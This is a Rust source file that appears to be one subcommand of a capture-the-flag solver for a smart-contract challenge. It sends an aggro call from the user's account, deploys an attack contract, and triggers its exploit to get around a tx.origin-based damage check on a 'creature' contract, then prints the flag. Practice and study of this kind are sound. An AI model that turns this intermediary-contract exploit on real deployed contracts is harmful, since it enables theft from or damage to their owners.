// SPDX-License-Identifier: MIT
//! Distract and Destroy: the creature takes real damage only when
//! `msg.sender != tx.origin` and the EOA has already registered as aggro.

use alloy_primitives::{Address, U256};
use alloy_sol_types::SolValue;
use anyhow::Result;
use clap::Args;
use tracing::info;

use chain_types::constants::{
    CALL_GAS_LIMIT, DEPLOY_GAS_LIMIT, DISTRACT_AGGRO_DAMAGE, EXPLOIT_GAS_LIMIT,
};
use host_utils::abi::{calldata, view, IAttackContract, ICreature};

use crate::commands::{print_json, Session};
use crate::config::ConnectionArgs;

const ATTACK_CONTRACT_SOURCE: &str = include_str!("../../../../contracts/AttackContract.sol");

#[derive(Args, Debug)]
pub struct DistractArgs {
    #[command(flatten)]
    pub connection: ConnectionArgs,
}

/// ABI-encoded `AttackContract(creature)` constructor arguments.
fn constructor_args(creature: Address) -> Vec<u8> {
    creature.abi_encode()
}

pub async fn run(args: DistractArgs, json_output: bool) -> Result<()> {
    let session = Session::connect(&args.connection, json_output).await?;
    let creature = session.config.target;

    // Aggro must come from the EOA before the contract attacks.
    session
        .transact(
            "Initial attack",
            creature,
            calldata(&ICreature::attackCall {
                damage: U256::from(DISTRACT_AGGRO_DAMAGE),
            }),
            CALL_GAS_LIMIT,
        )
        .await?;

    let compiled = session.compile(ATTACK_CONTRACT_SOURCE, "AttackContract")?;
    let init_code = compiled.with_constructor_args(&constructor_args(creature));
    let (attacker, _) = session
        .deploy("AttackContract", init_code, DEPLOY_GAS_LIMIT)
        .await?;

    session
        .transact(
            "Exploit",
            attacker,
            calldata(&IAttackContract::executeExploitCall {}),
            EXPLOIT_GAS_LIMIT,
        )
        .await?;

    let client = session.client();
    let life_points = view(client, None, creature, &ICreature::lifePointsCall {}).await?;
    info!(%life_points, "Creature after exploit");
    let flag = session.try_flag().await;

    if json_output {
        return print_json(&serde_json::json!({
            "challenge": "distract",
            "creature": creature.to_string(),
            "attack_contract": attacker.to_string(),
            "life_points": life_points.to_string(),
            "flag": flag,
        }));
    }

    println!("Life Points now: {life_points}");
    match flag {
        Some(flag) => println!("\nFlag: {flag}"),
        None => println!("Done!"),
    }
    Ok(())
}
